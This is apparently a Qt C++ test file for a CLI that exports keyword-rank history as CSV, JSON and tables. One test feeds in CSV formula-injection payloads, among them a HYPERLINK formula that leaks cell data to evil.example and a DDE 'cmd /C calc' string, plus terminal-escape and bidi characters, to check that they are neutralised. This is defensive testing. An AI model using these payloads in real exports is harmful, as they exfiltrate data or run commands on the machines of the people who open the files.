// quorvex-cli history and rank --json: the stored values as CSV, JSON and a table, each keyword
// record with its market, the filters, the page, pruning after the question, bad usage that changes
// nothing, and a rank run's results.

#include "CliRunner.h"

#include "base/TerminalText.h"
#include "history/HistoryPage.h"
#include "history/HistoryStore.h"
#include "history/RunHistory.h"

#include "support/ProxyWeb.h"

#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>

using namespace Qt::StringLiterals;
using enum ValueStatus;

namespace {

// Two runs: a page whose texts need quoting and escaping, a keyword record found and then not, and
// the same keyword searched in a market of its own.
void RecordTwoRuns(const QString& home)
{
    HistoryStore store(home);
    HistoryData first;
    first.Runs.append({0, QDateTime(QDate(2026, 3, 7), QTime(9, 30)), u"historical"_s, u"Report20260307.htm"_s});
    first.Pages.append({0,
                        u"http://www.alpha.com"_s,
                        u"4/10"_s,
                        Found,
                        u"Not Available"_s,
                        Failed,
                        u"Alpha, \"the\" best"_s,
                        u"esc\u001b[2Jhere"_s,
                        {}});
    first.Positions.append(
        {0, u"http://www.alpha.com"_s, u"Widget"_s, u"seo"_s, {}, 3, Found, 100, {u"a.com/"_s, u"b.com/"_s}});
    QVERIFY(store.Record(first) > 0);
    HistoryData second;
    second.Runs.append({0, QDateTime(QDate(2026, 3, 8), QTime(9, 30)), u"historical"_s, u"Report20260308.htm"_s});
    second.Positions.append({0, u"http://www.alpha.com"_s, u"Widget"_s, u"seo"_s, {}, 0, NotRanked, 10, {}});
    second.Positions.append({0,
                             u"http://www.alpha.com"_s,
                             u"Widget"_s,
                             u"seo"_s,
                             Market{u"fr"_s, u"fr"_s, u"mobile"_s, u"Lyon, France"_s},
                             7,
                             Found,
                             100,
                             {}});
    second.Positions.append({0, u"http://www.beta.com"_s, {}, u"tools"_s, {}, 0, Failed, 100, {}});
    QVERIFY(store.Record(second) > 0);
}

int StoredRuns(const QString& home)
{
    HistoryData history;
    return HistoryStore(home).Read({}, history) ? int(history.Runs.size()) : -1;
}

CannedReply Answer(const QUrl& url)
{
    CannedReply reply;
    if (url.path() == u"/tbr")
        reply.Body = "Rank_1:1:4\n";
    else if (url.path() == u"/search")
        reply.Body = "<html><body><cite>www.example.com/ - 3k - </cite><a href=/x>Similar pages</a></body></html>";
    else
        reply.Body = "<html><head><title>Example</title></head></html>";
    return reply;
}

} // namespace

class TestCliHistory : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void csvTableAndJson()
    {
        QTemporaryDir home;
        RecordTwoRuns(home.path());

        const CliResult csv = RunQuorvexCli(home.path(), {u"history"_s, u"--csv"_s});
        QCOMPARE(csv.ExitCode, 0);
        QCOMPARE(
            csv.Out,
            u"time,url,product,keyword,market,value,result,status,depth\r\n"
            "2026-03-07 09:30:00,http://www.alpha.com,,,,pagerank,4/10,found,\r\n"
            "2026-03-07 09:30:00,http://www.alpha.com,,,,traffic rank,Not Available,failed,\r\n"
            "2026-03-07 09:30:00,http://www.alpha.com,,,,title,\"Alpha, \"\"the\"\" best\",,\r\n"
            "2026-03-07 09:30:00,http://www.alpha.com,,,,description,esc\\x1b[2Jhere,,\r\n"
            "2026-03-07 09:30:00,http://www.alpha.com,,,,keywords,,,\r\n"
            "2026-03-07 09:30:00,http://www.alpha.com,Widget,seo,unspecified,position,3,found,100\r\n"
            "2026-03-07 09:30:00,http://www.alpha.com,Widget,seo,unspecified,top10,a.com/ b.com/,,\r\n"
            "2026-03-08 09:30:00,http://www.alpha.com,Widget,seo,unspecified,position,,not ranked,10\r\n"
            "2026-03-08 09:30:00,http://www.alpha.com,Widget,seo,unspecified,top10,,,\r\n"
            "2026-03-08 09:30:00,http://www.alpha.com,Widget,seo,\"fr fr mobile Lyon, France\",position,7,found,100\r\n"
            "2026-03-08 09:30:00,http://www.alpha.com,Widget,seo,\"fr fr mobile Lyon, France\",top10,,,\r\n"
            "2026-03-08 09:30:00,http://www.beta.com,,tools,unspecified,position,,failed,100\r\n"
            "2026-03-08 09:30:00,http://www.beta.com,,tools,unspecified,top10,,,\r\n"_s);

        // The same records, a row each and a column per run.
        const CliResult wide = RunQuorvexCli(home.path(), {u"history"_s, u"--csv"_s, u"--wide"_s});
        QCOMPARE(wide.ExitCode, 0);
        QCOMPARE(wide.Out, u"url,product,keyword,market,2026-03-07 09:30:00,2026-03-08 09:30:00\r\n"
                           "http://www.alpha.com,Widget,seo,unspecified,3,not ranked\r\n"
                           "http://www.alpha.com,Widget,seo,\"fr fr mobile Lyon, France\",,7\r\n"
                           "http://www.beta.com,,tools,unspecified,,failed\r\n"_s);

        const CliResult table =
            RunQuorvexCli(home.path(), {u"history"_s, u"--keyword"_s, u" SEO"_s, u"--since"_s, u"2026-03-08"_s});
        QCOMPARE(table.ExitCode, 0);
        QCOMPARE(table.Out,
                 u"time\turl\tproduct\tkeyword\tmarket\tvalue\tresult\tstatus\tdepth\n"
                 "2026-03-08 09:30:00\thttp://www.alpha.com\tWidget\tseo\tunspecified\tposition\t\tnot ranked\t10\n"
                 "2026-03-08 09:30:00\thttp://www.alpha.com\tWidget\tseo\tunspecified\ttop10\t\t\t\n"
                 "2026-03-08 09:30:00\thttp://www.alpha.com\tWidget\tseo\tfr fr mobile Lyon, "
                 "France\tposition\t7\tfound\t100\n"
                 "2026-03-08 09:30:00\thttp://www.alpha.com\tWidget\tseo\tfr fr mobile Lyon, France\ttop10\t\t\t\n"_s);

        const CliResult json = RunQuorvexCli(home.path(), {u"history"_s, u"--json"_s, u"--since"_s, u"2026-03-07"_s});
        QCOMPARE(json.ExitCode, 0);
        QVERIFY(!json.Out.contains(QChar(0x1b)));
        const QJsonArray runs = QJsonDocument::fromJson(json.Out.toUtf8()).object().value(u"runs"_s).toArray();
        QCOMPARE(runs.size(), 2);
        const QJsonObject first = runs.at(0).toObject();
        QCOMPARE(first.value(u"time"_s).toString(), u"2026-03-07 09:30:00"_s);
        QCOMPARE(first.value(u"sources"_s).toString(), u"historical"_s);
        QCOMPARE(first.value(u"report"_s).toString(), u"Report20260307.htm"_s);
        const QJsonObject page = first.value(u"pages"_s).toArray().at(0).toObject();
        QCOMPARE(page.value(u"pagerank"_s).toString(), u"4/10"_s);
        QCOMPARE(page.value(u"traffic_status"_s).toString(), u"failed"_s);
        QCOMPARE(page.value(u"description"_s).toString(), u"esc\u001b[2Jhere"_s);
        const QJsonObject found = first.value(u"keyword_records"_s).toArray().at(0).toObject();
        QCOMPARE(found.value(u"position"_s).toInt(), 3);
        QCOMPARE(found.value(u"status"_s).toString(), u"found"_s);
        QCOMPARE(found.value(u"top10"_s).toArray(), (QJsonArray{u"a.com/"_s, u"b.com/"_s}));
        QCOMPARE(
            found.value(u"market"_s).toObject(),
            (QJsonObject{{u"country"_s, u""_s}, {u"language"_s, u""_s}, {u"device"_s, u""_s}, {u"location"_s, u""_s}}));
        const QJsonArray second = runs.at(1).toObject().value(u"keyword_records"_s).toArray();
        const QJsonObject lost = second.at(0).toObject();
        QVERIFY(lost.value(u"position"_s).isNull());
        QCOMPARE(lost.value(u"status"_s).toString(), u"not ranked"_s);
        QCOMPARE(lost.value(u"depth"_s).toInt(), 10);
        const QJsonObject inLyon = second.at(1).toObject();
        QCOMPARE(inLyon.value(u"keyword"_s).toString(), u"seo"_s);
        QCOMPARE(inLyon.value(u"position"_s).toInt(), 7);
        QCOMPARE(inLyon.value(u"market"_s).toObject(), (QJsonObject{{u"country"_s, u"fr"_s},
                                                                    {u"language"_s, u"fr"_s},
                                                                    {u"device"_s, u"mobile"_s},
                                                                    {u"location"_s, u"Lyon, France"_s}}));
    }

    // The JSON is written as it is read, in the very bytes of the whole document it always was:
    // keys in the order of their names, indented, texts escaped for the terminal.
    void jsonHasItsShapeExactly()
    {
        QTemporaryDir home;
        const QString hostile = u"\"q\" back\\slash\ttab\nline\r\u0001 del\u007f c1\u0085 rtl\u202e\u2066 "
                                "ls\u2028 alm\u061c caf\u00e9 \U0001F600"_s;
        HistoryStore store(home.path());
        HistoryData full;
        full.Runs.append({0, QDateTime(QDate(2026, 3, 7), QTime(9, 30)), u"historical"_s, u"Runs/Report1.htm"_s});
        full.Pages.append({0, u"http://www.alpha.com"_s, u"4/10"_s, Found, hostile, Failed, hostile, hostile, {}});
        full.Pages.append({0, u"http://www.beta.com"_s, {}, NotRanked, {}, NotRanked, {}, {}, u"plain"_s});
        full.Positions.append({0,
                               u"http://www.alpha.com"_s,
                               hostile,
                               u"seo"_s,
                               {u"fr"_s, {}, u"desktop"_s, hostile},
                               3,
                               Found,
                               100,
                               {u"a.com/"_s, u"\"b\".com"_s, u"c\\d"_s, hostile, {}, u"e\u202e.com"_s}});
        full.Positions.append({0, u"http://www.alpha.com"_s, {}, hostile, {}, 0, NotRanked, 10, {{}, u"a.com"_s, {}}});
        QVERIFY(store.Record(full) > 0);
        HistoryData empty;
        empty.Runs.append({0, QDateTime(QDate(2026, 3, 8), QTime(9, 30)), hostile, {}});
        QVERIFY(store.Record(empty) > 0);
        HistoryData recordsOnly;
        recordsOnly.Runs.append({0, QDateTime(QDate(2026, 3, 9), QTime(9, 30)), u"historical"_s, u"R.htm"_s});
        recordsOnly.Positions.append({0, u"http://www.beta.com"_s, {}, u"seo"_s, {}, 0, Failed, 100, {u"x.com"_s}});
        QVERIFY(store.Record(recordsOnly) > 0);

        // The document as Qt writes it from the values read back.
        const auto expected = [&](const HistoryFilter& filter) {
            HistoryData history;
            if (!store.Read(filter, history))
                return QString();
            QJsonArray runs;
            for (const HistoryRun& run : history.Runs) {
                QJsonArray pages;
                for (const PageHistoryValue& page : history.Pages) {
                    if (page.RunId == run.Id)
                        pages.append(QJsonObject{{u"url"_s, page.URL},
                                                 {u"pagerank"_s, page.PageRank},
                                                 {u"pagerank_status"_s, StatusWord(page.PageRankStatus)},
                                                 {u"traffic_rank"_s, page.TrafficRank},
                                                 {u"traffic_status"_s, StatusWord(page.TrafficStatus)},
                                                 {u"title"_s, page.Title},
                                                 {u"description"_s, page.Description},
                                                 {u"keywords"_s, page.Keywords}});
                }
                QJsonArray records;
                for (const PositionHistoryValue& value : history.Positions) {
                    if (value.RunId == run.Id)
                        records.append(QJsonObject{
                            {u"url"_s, value.URL},
                            {u"product"_s, value.Product},
                            {u"keyword"_s, value.Keyword},
                            {u"market"_s, QJsonObject{{u"country"_s, value.SearchMarket.Country},
                                                      {u"language"_s, value.SearchMarket.Language},
                                                      {u"device"_s, value.SearchMarket.Device},
                                                      {u"location"_s, value.SearchMarket.Location}}},
                            {u"position"_s, value.Status == Found ? QJsonValue(value.Position) : QJsonValue()},
                            {u"status"_s, StatusWord(value.Status)},
                            {u"depth"_s, value.Depth},
                            {u"top10"_s, QJsonArray::fromStringList(value.Top10)}});
                }
                runs.append(QJsonObject{{u"time"_s, HistoryTimeText(run.Time)},
                                        {u"sources"_s, run.Sources},
                                        {u"report"_s, run.ReportFile},
                                        {u"pages"_s, pages},
                                        {u"keyword_records"_s, records}});
            }
            return TerminalJson(QJsonDocument(QJsonObject{{u"runs"_s, runs}}));
        };

        const CliResult all = RunQuorvexCli(home.path(), {u"history"_s, u"--json"_s});
        QCOMPARE(all.ExitCode, 0);
        QCOMPARE(all.Out, expected({}));
        const CliResult none = RunQuorvexCli(home.path(), {u"history"_s, u"--json"_s, u"--keyword"_s, u"absent"_s});
        QCOMPARE(none.ExitCode, 0);
        QCOMPARE(none.Out, expected({u"absent"_s, {}, {}}));
        QCOMPARE(none.Out, u"{\n    \"runs\": [\n    ]\n}\n"_s);
    }

    // Titles, products and keywords come from the web and the lists: in the CSV none of them is a
    // formula when a spreadsheet opens it, however it is quoted; numbers stay numbers.
    void csvHoldsNoFormula()
    {
        QTemporaryDir home;
        HistoryData run;
        run.Runs.append({0, QDateTime(QDate(2026, 3, 7), QTime(9, 30)), u"historical"_s, u"Report20260307.htm"_s});
        run.Pages.append({0, u"http://www.alpha.com"_s, u"-1"_s, Found, u"-2+3"_s, Found,
                          u"=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")"_s, u"=1+1"_s, u"@SUM(A1:A9)"_s});
        run.Positions.append({0,
                              u"http://www.alpha.com"_s,
                              u"+cmd|' /C calc'!A0"_s,
                              u"-seo"_s,
                              {{}, {}, {}, u"=cmd"_s},
                              3,
                              Found,
                              100,
                              {u"@a.com"_s}});
        QVERIFY(HistoryStore(home.path()).Record(run) > 0);

        const CliResult csv = RunQuorvexCli(home.path(), {u"history"_s, u"--csv"_s});
        QCOMPARE(csv.ExitCode, 0);
        QCOMPARE(csv.Out,
                 u"time,url,product,keyword,market,value,result,status,depth\r\n"
                 "2026-03-07 09:30:00,http://www.alpha.com,,,,pagerank,-1,found,\r\n"
                 "2026-03-07 09:30:00,http://www.alpha.com,,,,traffic rank,'-2+3,found,\r\n"
                 "2026-03-07 09:30:00,http://www.alpha.com,,,,title,"
                 "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\",,\r\n"
                 "2026-03-07 09:30:00,http://www.alpha.com,,,,description,'=1+1,,\r\n"
                 "2026-03-07 09:30:00,http://www.alpha.com,,,,keywords,'@SUM(A1:A9),,\r\n"
                 "2026-03-07 09:30:00,http://www.alpha.com,'+cmd|' /C calc'!A0,'-seo,'=cmd,position,3,found,100\r\n"
                 "2026-03-07 09:30:00,http://www.alpha.com,'+cmd|' /C calc'!A0,'-seo,'=cmd,top10,'@a.com,,\r\n"_s);
    }

    void badUsageChangesNothing_data()
    {
        QTest::addColumn<QStringList>("args");
        QTest::addColumn<QString>("message");
        QTest::newRow("no such day") << QStringList{u"--since"_s, u"2026-02-30"_s} << u"'2026-02-30' is not a date"_s;
        QTest::newRow("short day") << QStringList{u"prune"_s, u"--before"_s, u"2026-3-8"_s}
                                   << u"'2026-3-8' is not a date"_s;
        QTest::newRow("two formats") << QStringList{u"--csv"_s, u"--json"_s} << u"Choose --csv or --json"_s;
        QTest::newRow("prune without a day") << QStringList{u"prune"_s, u"--yes"_s} << u"--before yyyy-MM-dd"_s;
        QTest::newRow("prune with a filter")
            << QStringList{u"prune"_s, u"--before"_s, u"2026-03-08"_s, u"--url"_s, u"x"_s}
            << u"takes only --before and --yes"_s;
        QTest::newRow("page with a filter")
            << QStringList{u"--html"_s, u"--keyword"_s, u"seo"_s} << u"--html writes the whole history"_s;
        QTest::newRow("open without the page") << QStringList{u"--open"_s} << u"--open goes with --html"_s;
        QTest::newRow("wide without csv") << QStringList{u"--wide"_s} << u"--wide goes with --csv"_s;
        QTest::newRow("unknown word") << QStringList{u"purge"_s} << u"Unexpected argument 'purge'"_s;
    }
    void badUsageChangesNothing()
    {
        QFETCH(QStringList, args);
        QFETCH(QString, message);
        QTemporaryDir home;
        RecordTwoRuns(home.path());
        const CliResult result = RunQuorvexCli(home.path(), QStringList{u"--yes"_s, u"history"_s} + args);
        QCOMPARE(result.ExitCode, 2);
        QVERIFY2(result.Err.contains(message), qPrintable(result.Err));
        QVERIFY(result.Out.isEmpty());
        QCOMPARE(StoredRuns(home.path()), 2);
        QVERIFY(!QFileInfo::exists(HistoryPagePath(home.path())));
    }

    void pruneAsksFirst()
    {
        QTemporaryDir home;
        RecordTwoRuns(home.path());
        const QStringList prune{u"history"_s, u"prune"_s, u"--before"_s, u"2026-03-08"_s};
        const CliResult declined = RunQuorvexCli(home.path(), prune, "n\n");
        QCOMPARE(declined.ExitCode, 1);
        QVERIFY2(declined.Err.contains(u"1 runs before 2026-03-08 will be deleted"_s), qPrintable(declined.Err));
        QCOMPARE(StoredRuns(home.path()), 2);

        const CliResult done = RunQuorvexCli(home.path(), prune + QStringList{u"--yes"_s});
        QCOMPARE(done.ExitCode, 0);
        QCOMPARE(StoredRuns(home.path()), 1);
        QVERIFY(QFileInfo::exists(HistoryPagePath(home.path())));

        const CliResult page = RunQuorvexCli(home.path(), {u"history"_s, u"--html"_s});
        QCOMPARE(page.ExitCode, 0);
        QCOMPARE(page.Out, HistoryPagePath(home.path()) + QLatin1Char('\n'));
    }

    // The copies of the pruned runs' reports go with them; the day's reports and other files stay.
    void pruneRemovesTheRunsReports()
    {
        QTemporaryDir home;
        RecordTwoRuns(home.path());
        const QDir reports(home.filePath(u"Report"_s));
        QVERIFY(reports.mkpath(u"Runs"_s));
        const QStringList files{u"Report20260307.htm"_s, u"Runs/Report20260307-093000.htm"_s,
                                u"Runs/Report20260308-093000.htm"_s, u"Runs/notes.txt"_s};
        for (const QString& name : files) {
            QFile file(reports.filePath(name));
            QVERIFY(file.open(QIODevice::WriteOnly));
        }
        const CliResult done =
            RunQuorvexCli(home.path(), {u"history"_s, u"prune"_s, u"--before"_s, u"2026-03-08"_s, u"--yes"_s});
        QCOMPARE(done.ExitCode, 0);
        QCOMPARE(StoredRuns(home.path()), 1);
        QStringList kept;
        for (const QString& name : files) {
            if (reports.exists(name))
                kept << name;
        }
        QCOMPARE(kept,
                 (QStringList{u"Report20260307.htm"_s, u"Runs/Report20260308-093000.htm"_s, u"Runs/notes.txt"_s}));
    }

    // The results on standard output instead of the report's path; the summary line tells how the
    // keyword record moved against the run before.
    void rankPrintsItsResultsAsJson()
    {
        ProxyWeb web;
        web.SetFallback(Answer);
        QTemporaryDir home;
        QCOMPARE(RunQuorvexCli(home.path(), {u"add-page"_s, u"example.com"_s}).ExitCode, 0);
        QCOMPARE(RunQuorvexCli(home.path(), {u"add-keyword"_s, u"example.com"_s, u"seo"_s}).ExitCode, 0);
        const auto rank = [&] {
            QProcess cli;
            QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
            env.insert(u"QUORVEX_HOME"_s, home.path());
            env.insert(u"http_proxy"_s, web.ProxyUrl());
            cli.setProcessEnvironment(env);
            cli.start(BinFolder() + u"/quorvex-cli"_s, {u"rank"_s, u"--json"_s});
            cli.closeWriteChannel();
            // The test's event loop serves the fake web meanwhile.
            if (!QTest::qWaitFor([&] { return cli.state() == QProcess::NotRunning; }, 30000))
                cli.kill();
            return CliResult{cli.exitCode(), QString::fromUtf8(cli.readAllStandardOutput()),
                             QString::fromUtf8(cli.readAllStandardError())};
        };
        const CliResult first = rank();
        QCOMPARE(first.ExitCode, 0);
        QVERIFY2(first.Err.contains(u" failed; 0 rose, 0 fell, 0 stayed\n"_s), qPrintable(first.Err));
        QJsonParseError error;
        const QJsonObject run = QJsonDocument::fromJson(first.Out.toUtf8(), &error).object();
        QCOMPARE(error.error, QJsonParseError::NoError);
        QVERIFY(run.value(u"report"_s).toString().startsWith(u"Runs/Report"_s));
        const QJsonObject page = run.value(u"pages"_s).toArray().at(0).toObject();
        QCOMPARE(page.value(u"url"_s).toString(), u"http://www.example.com"_s);
        QCOMPARE(page.value(u"pagerank"_s).toString(), u"4/10"_s);
        const QJsonObject record = run.value(u"keyword_records"_s).toArray().at(0).toObject();
        QCOMPARE(record.value(u"keyword"_s).toString(), u"seo"_s);
        QCOMPARE(record.value(u"top10"_s).toArray().size(), 10);

        const CliResult second = rank();
        QCOMPARE(second.ExitCode, 0);
        QVERIFY2(second.Err.contains(u" failed; 0 rose, 0 fell, 1 stayed\n"_s), qPrintable(second.Err));
        QCOMPARE(StoredRuns(home.path()), 2);
    }
};

QUORVEX_TEST_MAIN_CORE(TestCliHistory)
#include "test_cli_history.moc"
